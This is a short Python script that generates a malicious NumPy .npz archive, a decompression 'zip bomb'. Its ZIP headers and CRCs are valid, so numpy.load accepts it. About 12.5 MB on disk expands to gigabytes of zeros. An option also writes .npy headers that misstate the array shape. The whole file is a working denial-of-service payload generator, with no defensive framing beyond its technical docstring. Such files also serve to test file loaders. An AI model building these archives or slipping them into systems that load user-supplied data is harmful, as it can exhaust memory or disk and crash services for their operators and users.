#!/usr/bin/env python3
"""An .npz "zip bomb": MEMBERS deflated members m0, m1, ... each a float32 .npy of zeros of
shape (COUNT,), COUNT = (2 GiB - 128) / 4 by default, so ~2 MB of deflate each and 12.5 MB
for the default 6 members. A valid archive (sizes and CRC-32 right, numpy.load reads it), made
without holding the data: the deflate stream of one 1 MiB chunk of zeros, compressed after a
full flush, is the same bytes every time, so it is repeated. With SHAPE (say "1, 1"), each
.npy header declares that shape instead of (COUNT,): a header that lies about its data.
    usage: make_npz_bomb.py OUT.npz [MEMBERS [COUNT [SHAPE]]]"""
import struct
import sys
import zlib

out = sys.argv[1]
members = int(sys.argv[2]) if len(sys.argv) > 2 else 6
count = int(sys.argv[3]) if len(sys.argv) > 3 else ((1 << 31) - 128) // 4

shape = sys.argv[4] if len(sys.argv) > 4 else "%d," % count
header = "{'descr': '<f4', 'fortran_order': False, 'shape': (%s), }" % shape
header += " " * (127 - 10 - len(header)) + "\n"  # numpy pads to 64 bytes; 128 here
npy_head = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode()
assert len(npy_head) == 128
chunk = 1 << 20
data_bytes = 4 * count
full, rest = divmod(data_bytes, chunk)

c = zlib.compressobj(9, zlib.DEFLATED, -15)
head = c.compress(npy_head) + c.flush(zlib.Z_FULL_FLUSH)
zeros = bytes(chunk)
one = c.compress(zeros) + c.flush(zlib.Z_FULL_FLUSH)
two = c.compress(zeros) + c.flush(zlib.Z_FULL_FLUSH)
assert one == two, "zlib's output after a full flush is not repeatable here"
tail = c.compress(bytes(rest)) + c.flush(zlib.Z_FINISH)
deflated_size = len(head) + full * len(one) + len(tail)

crc = zlib.crc32(npy_head)
for _ in range(full):
    crc = zlib.crc32(zeros, crc)
crc = zlib.crc32(bytes(rest), crc)
size = len(npy_head) + data_bytes
assert size < 1 << 32

with open(out, "wb") as f:
    central = b""
    for k in range(members):
        name = b"m%d.npy" % k
        offset = f.tell()
        f.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, deflated_size, size, len(name), 0))
        f.write(name)
        f.write(head)
        block = one * 64
        for _ in range(full // 64):
            f.write(block)
        f.write(one * (full % 64))
        f.write(tail)
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, deflated_size, size,
                               len(name), 0, 0, 0, 0, 0o644 << 16, offset) + name
    cd_offset = f.tell()
    f.write(central)
    f.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, members, members, len(central), cd_offset, 0))
